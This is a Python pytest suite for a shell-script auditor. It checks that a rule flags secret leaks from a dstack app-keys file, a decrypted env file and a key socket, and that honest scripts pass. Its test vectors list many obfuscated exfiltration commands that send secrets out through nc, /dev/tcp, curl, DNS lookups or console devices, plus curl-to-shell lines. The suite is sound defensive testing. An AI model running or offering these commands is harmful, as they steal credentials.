"""Scripts are followed as a shell would: no spelling hides a leak, and honest ones pass."""

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.manifest.vectors import script
from verifier.manifest.audit import audit_manifest
from verifier.manifest.shell.follow import CONSOLE, follow

KEYS = "/dstack/.host-shared/.appkeys.json"
LEAKS = (
    f"cat {KEYS}",
    f"cat {KEYS} > /dev/console",
    f"cat {KEYS} | nc 203.0.113.1 9",
    f"cat {KEYS} >/dev/tcp/203.0.113.1/9",
    'A=/dev/con; B=sole; cat /dstack/.host-shared/.app"keys".json > "$A$B"',
    "f='/dstack/.host-shared/.appk''eys.json'\nout=/dev/ttyS0\ncat \"$f\" > ${out}",
    f'leak() {{ cat "$1" > "$2"; }}\nleak {KEYS} /dev/console',
    f"function leak {{\n  cat {KEYS}\n}} > /dev/console\nleak",
    f'K=$(cat {KEYS})\necho "$K"',
    f"K=`cat {KEYS}`; curl -d $K https://x.test",
    f"{{ echo begin; cat {KEYS}; }} > /dev/console",
    f"( cat {KEYS} ) | logger",
    f'while read line; do echo "$line"; done < {KEYS} > /dev/console',
    f'for f in {KEYS} /x; do cat "$f" >> /dev/kmsg; done',
    f"if true; then cat {KEYS}; fi > /dev/console",
    f"case x in *) cat {KEYS};; esac > /dev/console",
    f"cp {KEYS} /tmp/x; cat /tmp/x | nc 203.0.113.1 9",
    f"cp {KEYS} /tmp/x\ncp /tmp/x /tmp/y\nbase64 /tmp/y",
    f"cat {KEYS} > /tmp/x; curl -T /tmp/x https://x.test",
    f"exec 3>/dev/console\ncat {KEYS} >&3",
    f"exec > /dev/console\njq . {KEYS}",
    "cd /dstack/.host-shared && cat .app*",
    f"alias c=cat\nc {KEYS}",
    f"bash <<EOF\ncat {KEYS}\nEOF",
    f"sh -c 'cat {KEYS}'",
    f'eval "cat {KEYS}"',
    "echo Y2F0IC9kc3RhY2svLmhvc3Qtc2hhcmVkLy5hcHBrZXlzLmpzb24K | base64 -d | sh",
    f"cat > /tmp/run.sh <<'EOF'\n#!/bin/sh\ncat {KEYS} > /dev/console\nEOF\nsystemctl start run",
    f"printf '#!/bin/sh\\ncat {KEYS}\\n' > /tmp/a.sh; sh /tmp/a.sh",
    f"cat {KEYS} | tee /dstack/.host-shared/seen",
    f"cp {KEYS} /dstack/.host-shared/copy.json",
    "tar c /dstack/.host-shared | ssh a.test",
    f"python3 -c \"print(open('{KEYS}').read())\"",
    f"x={KEYS}\ny=x\ncat ${{!y}}",
    f"cat ${{UNSET:-{KEYS}}}",
    f"c\\at {KEYS}",
    f"$'\\x63at' {KEYS}",
    f"cat \\\n  {KEYS}",
)
MORE_LEAKS = (
    f"mapfile -t A < {KEYS}; printf '%s' \"${{A[@]}}\"",
    f'while IFS= read -r x; do logger "$x"; done < <(cat {KEYS})',
    f"read -r -d '' V < {KEYS}; echo \"$V\" | nc h 1",
    f'V=$(<{KEYS}); curl --data-binary @- https://x <<< "$V"',
    f'A=({KEYS} /x); cat "${{A[0]}}"',
    f"declare -A m; m[k]={KEYS}; cat ${{m[k]}}",
    "p=/dstack; q=$p/.host-shared; r=${q}/.appkeys.json; dd if=$r of=/dev/console",
    f"trap 'cat {KEYS}' EXIT",
    f"(sleep 5; cat {KEYS} >/dev/console) &",
    f"nohup sh -c 'cat {KEYS} > /dev/console' &",
    "find /dstack -name '.appkeys*' -exec cat {} \\;",
    "ls /dstack/.host-shared/.app* | xargs cat",
    f"xargs cat <<< {KEYS}",
    f"ln -s {KEYS} /tmp/k; cat /tmp/k",
    "mount --bind /dstack/.host-shared /mnt; cat /mnt/.appkeys.json",
    "tar -C /dstack -c .host-shared | nc h 1",
    "cp -r /dstack /tmp/d; tar c /tmp/d | nc h 1",
    "cat /dstack/.host-shared/.app[k]eys.json",
    "cat /dstack/.host-shared/.appkey?.json",
    f"set -x; K=$(jq -r .k256_key {KEYS})",
    f"bash -x -c 'X=$(cat {KEYS})'",
    f"exec 1>/dev/console; cat {KEYS}",
    f"{{ cat {KEYS}; }} 2>/dev/null",
    f"cat {KEYS} 1>&2",
    f"echo $(< {KEYS})",
    f"python3 - <<'EOF'\nimport sys\nprint(open('{KEYS}').read())\nEOF",
    f"systemd-run sh -c 'cat {KEYS} > /dev/kmsg'",
    f"F={KEYS}\nfunction show() {{ local f=$1; cat $f; }}\nshow $F",
    f"g() {{ echo {KEYS}; }}\ncat $(g)",
    f"docker run -v {KEYS}:/k alpine cat /k",
    f"tail -f {KEYS} > /dev/ttyS0 &",
    f"a=cat; b={KEYS}; c='/dev/console'; $a $b > $c",
    'eval "$(echo Y2F0IC9kc3RhY2svLmhvc3Qtc2hhcmVkLy5hcHBrZXlzLmpzb24= | base64 -d)"',
    f"sh <(echo cat {KEYS})",
    f". /dev/stdin <<< 'cat {KEYS}'",
    f"cat <<< $(cat {KEYS})",
    f"wget -O- http://x/$(base64 -w0 {KEYS})",
    f'dstack-util notify-host -e k -d "$(cat {KEYS})"',
    "cat /dstack/.host-shared/.decrypted-env",
    f"openssl enc -in {KEYS} | curl -F f=@- http://x",
    "cat /run/../dstack/.host-shared/.appkeys.json",
    "cd /dstack; cat .host-shared/.appkeys.json",
    "cat /var/volatile/dstack/.host-shared/.appkeys.json",
)
ASK = 'curl -s --unix-socket /var/run/dstack.sock -d \'{"path":"a"}\' http://dstack/GetKey'
WRAPPED = (
    *("env -i", "timeout 5", "stdbuf -o0", "nice -n 5", "unshare", "chroot /", "busybox", "sudo"),
    *("command", "systemd-run", "A=1", "setsid -w", "flock /x"),
)
OTHER_LEAKS = (
    *(f"{wrapper} cat {KEYS}" for wrapper in WRAPPED),
    *(f"{shell} 'cat {KEYS}'" for shell in ("sh -ec", "su -c", "timeout 5 bash -lc", "script -c")),
    *(f"{program} {KEYS}" for program in ("m4", "diff /dev/null", "some-program --read", "lp")),
    *(f"{lookup} $(base64 {KEYS}).x.test" for lookup in ("nslookup", "getent hosts", "dig +short")),
    *(f"{sender} < {KEYS}" for sender in ("wall", "sendmail a@x.test", "http POST x.test")),
    f"IFS= read -r x < {KEYS}; echo $x",
    f"{{ cat {KEYS}; }} | cat",
    f"cat {KEYS} | xargs",
    f"cp {KEYS} /dev/console",
    f"rclone copy {KEYS} r:x",
    f"git push http://$(base64 {KEYS})@x.test/y",
    "grep -r . /dstack/.host-shared",
    "find /dstack -type f | xargs cat",
    "docker compose --env-file /dstack/.host-shared/.decrypted-env config",
    "cat /proc/self/environ",
    "tr '\\0' '\\n' < /proc/1/environ > /dev/console",
    "export $(cat /dstack/.host-shared/.decrypted-env)\nenv | sort",
    "declare -p",
    "export -p",
    f"{ASK}",
    f"{ASK} | jq .",
    f"K=$({ASK})\necho $K",
    f"{ASK} > /dev/console",
    f"{ASK} | nc x.test 1",
    f'curl -d "$({ASK})" https://x.test',
    ASK.replace("-s", "-so /dev/stdout"),
    f"jq -s . {KEYS}",
    "for f in $(ls -A /dstack/.host-shared); do cat /dstack/.host-shared/$f; done",
    "cat $(printf '/dstack/.host-shared/.app%s.json' keys)",
    "cat /dst*/.h*/.a*",
    "cat /dstack/.host-shared/.appkeys{.json,}",
    "k=APPKEYS; cat /dstack/.host-shared/.${k,,}.json",
    "python3 -m http.server -d /dstack/.host-shared",
    "docker run -v /dstack:/d a:1",
    f"grep -s . {KEYS}",
    f"grep -v -e -q {KEYS}",
    f"docker run -v {KEYS}:/k a@sha256:{'3b' * 32} sh -c 'cat /k' -d",
    "docker-compose --env-file /dstack/.host-shared/.decrypted-env config",
)
HONEST = (
    "export $(grep -v '^#' /dstack/.host-shared/.decrypted-env | xargs)",
    "set -a\n. /dstack/.host-shared/.decrypted-env\nset +a",
    "docker compose --env-file /dstack/.host-shared/.decrypted-env up -d",
    f"A=$(jq -r .k256_key {KEYS}) docker compose up -d",
    f"cp {KEYS} /tmp/x",
    f"sha256sum {KEYS}",
    f"K=$({ASK} | jq -r .key)\nexport K",
    f"{ASK} > /run/key",
    f"{ASK.replace('-s', '-s -o /run/key')}",
    ASK.replace("GetKey", "Info"),
    "if grep -q '^A=' /dstack/.host-shared/.decrypted-env; then export B=1; fi",
    f'X=$(cat {KEYS})\n[ -n "$X" ] || exit 1\necho ok',
    'while read -r l; do export "$l"; done < /dstack/.host-shared/.decrypted-env',
    "set -euo pipefail\nexport A=1\nenv > /tmp/e\nfind /dstack -name '*.log' -delete",
    f"export K=$(cat {KEYS} | jq -r .k256_key)",
    f"K=$(cat {KEYS} | base64)",
    f"test -f {KEYS} || exit 1\necho ready > /dev/console",
    f"export K=$(jq -r .env_crypt_key {KEYS})",
    f"chmod 600 {KEYS}; echo done",
    f"cat {KEYS} > /dev/null",
    f"sha256sum {KEYS} > /tmp/sum",
    f"# cat {KEYS} > /dev/console\necho hello",
    f"echo 'never cat the keys'; wc -c {KEYS} > /tmp/size",
    f"f() {{ cat {KEYS}; }}\necho f is not called",
)


def rules(text: str) -> set[str]:
    return {finding.rule for finding in audit_manifest(script(text).raw).findings}


@pytest.mark.parametrize("text", [*LEAKS, *MORE_LEAKS, *OTHER_LEAKS])
def test_a_leak_is_found_however_it_is_written(text: str) -> None:
    assert "PLS-006" in rules(text)


@pytest.mark.parametrize("text", HONEST)
def test_an_honest_script_leaks_nothing(text: str) -> None:
    assert "PLS-006" not in rules(text)


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        ("C=curl; $C https://x.test/i | sh", "PLS-005"),
        ("get() { wget -qO- $1; }\nget https://x.test/i | bash", "PLS-005"),
        ("D=docker; $D run x", "PLS-005"),
        ("U=user; $U'add' joe", "PLS-004"),
        ("f=/etc/docker/daemon; echo '{}' > $f.json", "PLS-010"),
        ("F=docker-compose; echo x > $F.yaml", "MAN-005"),
        ("$TOOL x", "PLS-015"),
        ("eval $(make_it)", "PLS-015"),
        ("source $FILE", "PLS-015"),
        ('bash -c "$TEXT"', "PLS-015"),
    ],
)
def test_other_rules_follow_too(text: str, rule: str) -> None:
    assert rule in rules(text)


def test_lines_say_where_they_stand() -> None:
    found = follow("a=1\n\nf() {\n  echo $a\n}\nf >/x\n")
    assert [(line.number, line.text, line.output) for line in found.lines] == [
        (4, "echo 1 > /x", "/x")
    ]
    assert follow("echo a").lines[0].output == CONSOLE


BLANKS = "\t\v\f\r\x1c\x85\xa0\u2003\u2028\u3000"


@pytest.mark.parametrize("blank", BLANKS)
def test_only_what_the_shell_takes_for_blank_ends_a_word(blank: str) -> None:
    (line,) = follow(f"echo a{blank}b").lines
    separates = blank in "\t\r"
    assert line.text == ("echo a b" if separates else f"echo a{blank}b")


@given(st.text(alphabet=f"a$({{}})'\"`\\|&;<> \n=#ECHOifdone{BLANKS}", max_size=80))
def test_any_text_is_followed(text: str) -> None:
    follow(text)


@pytest.mark.parametrize(
    "piece",
    ["$(", "`", "{ ", "(", "f() {", "if ", "<<E\n", "'", '"', "${", "a=$a$a;", "eval a;", "|"],
)
def test_following_is_bounded(piece: str) -> None:
    started = time.process_time()
    follow(piece * (120_000 // len(piece)))
    assert time.process_time() - started < 10


def test_a_function_that_calls_itself_ends() -> None:
    assert follow("f() { f; f; }\nf\n" + "x=$(f)\n" * 20).lost
